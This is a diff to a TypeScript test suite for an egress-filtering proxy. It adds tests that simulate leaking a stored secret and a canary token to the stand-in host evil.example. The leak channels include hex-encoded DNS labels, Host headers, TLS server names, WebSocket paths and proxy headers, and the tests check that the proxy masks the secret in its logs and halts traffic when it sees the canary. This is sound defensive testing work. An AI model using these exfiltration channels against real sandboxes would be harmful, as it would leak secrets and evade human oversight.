@@ -12,6 +12,8 @@ import { NAME, Rig, secureRoute } from './egress-harness.ts';
 
 const SECRET = 'vault-value/0123456789+abc';
 const CANARY = 'bkp0123456789abcdef0123456789abcdef';
+const HEX = Buffer.from(CANARY).toString('hex');
+const WEBSOCKET = ['Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Key: x'].flatMap((field) => ['-H', field]);
 const GITHUB_TOKEN = `ghp_${'a1B2'.repeat(9)}`;
 
 let rig: Rig;
@@ -216,6 +218,28 @@ describe('the value of a stored secret', () => {
   });
 });
 
+test('the value of a stored secret is not in the audit log, wherever a bottle puts it', async () => {
+  const value = 'StolenValue0123456789';
+  rig.watched = [{ kind: 'secret', name: 'bank', value }];
+  await start();
+  const name = `${value}.evil.example`;
+  const proxy = viaProxy();
+  for (const ask of [
+    () => rig.rawCurl(`http://${name}/`, ...proxy),
+    () => rig.rawCurl(`https://${name}/`, ...proxy),
+    () => rig.rawCurl(`http://1.2.3.4:${rig.httpPort}/`, '--request-target', `http://${value}@x/`, ...proxy),
+    () => rig.curl(url(`/${value}`)),
+    async () => void rig.egress.audit.record({ kind: 'dns', decision: 'deny', target: name.toLowerCase() }),
+  ]) {
+    const before = (await rig.audit()).length;
+    await ask();
+    const written = (await rig.audit()).slice(before);
+    expect(written.length).toBeGreaterThan(0);
+    expect(JSON.stringify(written).toLowerCase()).not.toContain(value.toLowerCase());
+  }
+  expect(await rig.audit()).toContainEqual(expect.objectContaining({ host: `${'*'.repeat(value.length)}.evil.example` }));
+});
+
 describe('a body that cannot be looked at', () => {
   test.each<[string, Buffer, string]>([
     ['an unknown encoding', Buffer.from('x'), 'compress'],
@@ -264,6 +288,12 @@ describe('the canary of a bottle', () => {
     ['in a body', () => send(`x${CANARY}`)],
     ['in a header, encoded', () => rig.curl(url(), '-H', `x-note: ${Buffer.from(CANARY).toString('base64')}`)],
     ['as a name', async () => rig.egress.nameAllowed(`${CANARY}.evil.example`)],
+    ['as the labels of a name, encoded', async () => rig.egress.nameAllowed(`${HEX.slice(0, 40)}.${HEX.slice(40)}.evil.example`)],
+    ['as the name of another host', () => rig.curl(url(), '-H', `Host: ${CANARY}.evil.example`)],
+    ['in a header of a request that is refused', () => rig.curl(`https://${NAME}:8443/`, '-H', `x-note: ${CANARY}`)],
+    ['in the path of a WebSocket that is refused', () => rig.curl(`https://${NAME}:8443/${CANARY}`, '--http1.1', ...WEBSOCKET)],
+    ['as a name for TLS', async () => void tls.connect({ ...(await doorOf()), servername: `${CANARY}.evil.example` }).on('error', () => 0)],
+    ['beside a tunnel to what is no name', () => rig.rawCurl('https://1.2.3.4/', ...viaProxy(), '--proxy-header', `x-note: ${CANARY}`)],
     ['as a name in an absolute form', () => rig.rawCurl(`http://${CANARY}.evil.example/`, '-x', `http://127.0.0.1:${rig.proxyPort}`)],
     ['as a name for the proxy', () => rig.rawCurl(`https://${CANARY}.evil.example/`, '-x', `http://127.0.0.1:${rig.proxyPort}`)],
   ])('%s stops everything that leaves it, also after a restart, until a person lets it go on', async (_where, attack) => {
@@ -271,9 +301,9 @@ describe('the canary of a bottle', () => {
     await start({ secrets: 'log' });
     expect((await rig.curl(url())).status).toBe(200);
     await attack();
+    await expect.poll(() => existsSync(path.join(rig.dir, 'canary-seen.json'))).toBe(true);
     const stopped = { status: 403, text: expect.stringContaining('terok egress resume') };
     expect(await rig.curl(url(), '-D', '-')).toMatchObject(stopped);
-    expect(existsSync(path.join(rig.dir, 'canary-seen.json'))).toBe(true);
     expect(await rig.audit()).toContainEqual(expect.objectContaining({ kind: 'data-loss', reason: 'canary-seen', decision: 'deny' }));
     expect(rig.seen).toHaveLength(1);
     await rig.egress.close();
@@ -333,6 +363,12 @@ async function openWebSocket(): Promise<tls.TLSSocket> {
   );
   await once(client, 'data');
   return client;
+}
+
+const viaProxy = (): string[] => ['-x', `http://127.0.0.1:${rig.proxyPort}`];
+
+async function doorOf(): Promise<tls.ConnectionOptions> {
+  return { host: '127.0.0.1', port: await rig.door(NAME, rig.httpsPort) };
 }
 
 async function connect(): Promise<tls.TLSSocket> {
